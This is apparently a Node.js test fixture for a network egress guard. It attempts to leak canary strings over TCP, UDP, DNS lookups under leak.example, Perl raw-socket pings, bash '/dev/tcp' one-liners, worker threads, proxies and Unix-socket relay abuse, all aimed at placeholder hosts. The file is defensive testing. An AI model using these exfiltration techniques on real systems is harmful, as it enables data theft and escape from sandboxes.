"use strict";

/*
 * Ways out of a process, as a library would take them. Required by `canary.ts` behind the guard's preload,
 * where none may get out; run by itself, without it, every one must. Each act gets the canary that it has
 * to carry. Names are read from standard input, {"name","canary"} a line, and answered with {"name","said"}.
 */

const { spawn, spawnSync } = require("node:child_process");
const { writeFileSync } = require("node:fs");

const given = require.main === module ? JSON.parse(process.argv[2]) : {};

/** How long an act may take; what it began goes on. */
const PATIENCE_MS = 2_500;

const PUBLIC = "203.0.113.7";
const PUBLIC6 = "2001:db8::7";
const PROXY = "203.0.113.9";

const until = (emitter, ...events) =>
  new Promise((resolve, reject) => {
    for (const event of events) emitter.once(event, resolve);
    emitter.once("error", reject);
  });

async function connect(host, port, text) {
  const socket = require("node:net").connect(port, host);
  await until(socket, "connect");
  socket.end(text);
  await until(socket, "data", "end", "close");
  socket.destroy();
}

/** What a program of its own does: the same, without any guard of ours. */
const dialer = (canary) =>
  `require("node:net").connect(443, "${PUBLIC}").on("error", () => {}).end("${canary}")`;

const get = (url, options = {}) =>
  until(require("node:http").get(url, { agent: false, ...options }), "response");

/** Perl is on every Debian; a raw socket is all that it needs to ask for an echo. */
const PING = `use Socket; socket(S,PF_INET,SOCK_RAW,1) or die $!;
my $p=pack("C2n3",8,0,0,7,7).$ARGV[0]; my $s=0; $s+=$_ for unpack("n*", length($p)%2 ? "$p\\0" : $p);
$s=($s>>16)+($s&65535); $s=~($s+($s>>16))&65535; substr($p,2,2)=pack("n",$s);
send(S,$p,0,sockaddr_in(0,inet_aton("${PUBLIC}"))) or die $!;`;

/** Fired behind the guard, and once more without it as their own controls. */
const BOTH = {
  tcp: (canary) => connect(PUBLIC, 443, canary),
  "tcp-ipv6": (canary) => connect(PUBLIC6, 443, canary),
  fetch: (canary) => fetch(`http://${PUBLIC}/${canary}`),
  udp: async (canary) => {
    const socket = require("node:dgram").createSocket("udp4");
    await new Promise((resolve, reject) => {
      socket.on("error", reject);
      socket.send(canary, 9, PUBLIC, (error) => (error ? reject(error) : resolve()));
    });
    socket.close();
  },
  multicast: async (canary) => {
    const socket = require("node:dgram").createSocket("udp4");
    await new Promise((resolve, reject) => {
      socket.on("error", reject);
      socket.send(canary, 5353, "224.0.0.251", (error) => (error ? reject(error) : resolve()));
    });
    socket.close();
  },
  "dns-lookup": (canary) => require("node:dns").promises.lookup(`${canary}.leak.example`),
  "dns-query": (canary) => {
    const resolver = new (require("node:dns").promises.Resolver)({ timeout: 1_000, tries: 1 });
    return resolver.resolveTxt(`${canary}.leak.example`);
  },
  "child-process": async (canary) => {
    const child = spawn(process.execPath, ["-e", dialer(canary)], { stdio: "ignore" });
    await until(child, "exit");
  },
  "icmp-program": async (canary) => {
    const { error, status, stderr } = spawnSync("perl", ["-e", PING, canary], { encoding: "utf8" });
    if (error) throw error;
    if (status !== 0) throw new Error(stderr);
  },
  worker: async (canary) => {
    const { Worker } = require("node:worker_threads");
    const code = `require("node:net").connect(443, "${PUBLIC}")
      .on("error", (error) => { throw error }).end("${canary}")`;
    await until(new Worker(code, { eval: true, execArgv: [], env: {} }), "exit");
  },
  "proxy-environment": (canary) => {
    const { Agent } = require("node:http");
    const agent = new Agent({ proxyEnv: { HTTP_PROXY: `http://${PROXY}:8080` } });
    return get(`http://192.0.2.1/${canary}`, { agent });
  },
};

/** What the guard itself is asked for has its control here: the same, asked of nobody. */
const CONTROLS = {
  "guard-public": (canary) => get(`http://${PUBLIC}/${canary}`),
  "guard-decimal": (canary) => get(`http://${0xcb007107}/${canary}`),
  "guard-ipv6": (canary) => get(`http://[${PUBLIC6}]/${canary}`),
  "guard-name": (canary) => get(`http://${canary}.leak.example/`),
  "guard-rebinding": (canary) => get(`http://box.proof.test/${canary}`),
  "guard-redirect": (canary) => fetch(`${given.lan}/redirect/${canary}`),
  "guard-proxy": (canary) => {
    const { Agent } = require("node:http");
    const agent = new Agent({ proxyEnv: { HTTP_PROXY: `http://${PROXY}:8080` } });
    return get(`${given.lan}/${canary}`, { agent });
  },
  sandbox: async (canary) => void spawnSync("sh", ["-c", toCommand(canary)]),
  "cloud-model": (canary) =>
    fetch("http://203.0.113.8/v1/chat/completions", { method: "POST", body: canary }),
  "unix-relay": (canary) => abuse(given.relay, canary),
  "unix-connect": (canary) => tunnel(given.relay, canary),
};

const DIAL = `use Socket; socket(S,PF_INET,SOCK_STREAM,6) or die $!;
connect(S,sockaddr_in(443,inet_aton("${PUBLIC}"))) or die $!; send(S,$ARGV[0],0);`;

/** For any shell: two connections, a question and an echo, each tried whatever became of the one before. */
const toCommand = (canary) =>
  [
    `perl -e '${DIAL}' ${canary}`,
    `perl -e '${PING}' ${canary}`,
    `getent hosts ${canary}.leak.example`,
    `bash -c 'exec 3<>/dev/tcp/${PUBLIC}/443; printf %s ${canary} >&3'`,
  ].join("; ");

/** Asks a server behind a Unix socket to go somewhere else, as one asks a proxy. */
const abuse = (path, canary) =>
  speak(
    path,
    `GET http://${PUBLIC}/${canary} HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\n\r\n`,
  );

const tunnel = (path, canary) =>
  speak(path, `CONNECT ${PUBLIC}:443 HTTP/1.1\r\nhost: ${PUBLIC}:443\r\n\r\n`, canary);

async function speak(path, first, then) {
  const socket = require("node:net").connect(path);
  await until(socket, "connect");
  socket.write(first);
  const answer = await until(socket, "data", "close");
  const [head] = Buffer.isBuffer(answer) ? String(answer).split("\r\n") : ["it hung up"];
  if (then) socket.end(then);
  await new Promise((resolve) => setTimeout(resolve, 100));
  socket.destroy();
  return head;
}

/** The host of the LAN that the config of a proof allows, and a relay that goes wherever it is told. */
function serve() {
  const http = require("node:http");
  const { hostname, port } = new URL(given.lan);
  const lan = http.createServer((request, response) => {
    const [, redirect] = /^\/redirect\/(.*)/.exec(request.url ?? "") ?? [];
    if (redirect) response.writeHead(302, { location: `http://${PUBLIC}/${redirect}` }).end();
    else response.end("lan");
  });
  const relay = http.createServer((request, response) => {
    http.get(request.url, { agent: false }, (answer) => answer.pipe(response));
  });
  relay.on("connect", (request, socket) => {
    const [host, to] = request.url.split(":");
    const onward = require("node:net").connect(Number(to), host, () => {
      socket.write("HTTP/1.1 200 OK\r\n\r\n");
      socket.pipe(onward).pipe(socket);
    });
    for (const end of [socket, onward]) end.on("error", () => {});
  });
  return Promise.all([
    new Promise((resolve) => lan.listen(Number(port), hostname, resolve)),
    new Promise((resolve) => relay.listen(given.relay, resolve)),
  ]);
}

/** Returns what came of an act: "done", or why not. */
async function attempt(act, canary) {
  let timer;
  const patience = new Promise((resolve) => {
    timer = setTimeout(resolve, PATIENCE_MS, "no answer");
  });
  try {
    const said = await Promise.race([Promise.resolve().then(() => act(canary)), patience]);
    return typeof said === "string" ? said : "done";
  } catch (error) {
    return error.code ?? error.cause?.code ?? error.message;
  } finally {
    clearTimeout(timer);
  }
}

/** Does what standard input names, one after the other, until it ends. */
async function obey(acts) {
  process.stdout.write('{"ready":true}\n');
  for await (const line of require("node:readline").createInterface({ input: process.stdin })) {
    const { name, canary, flip } = JSON.parse(line);
    if (flip) writeFileSync(flip.file, flip.text);
    const said = acts[name] ? await attempt(acts[name], canary) : "unknown";
    process.stdout.write(`${JSON.stringify({ name, said })}\n`);
  }
  process.exit();
}

if (require.main === module) {
  process.on("uncaughtException", () => {}); // what one act left behind must not end the next
  serve().then(() => obey({ ...BOTH, ...CONTROLS, ...gatewaySocket() }));
}

/** The gateway's own socket, asked by an ordinary client: no guard of ours stands in that one's way. */
function gatewaySocket() {
  return {
    "unix-relay!": (canary) => abuse(given.gateway, canary),
    "unix-connect!": (canary) => tunnel(given.gateway, canary),
  };
}

module.exports = { BOTH, PUBLIC, PUBLIC6, attempt, obey, toCommand };
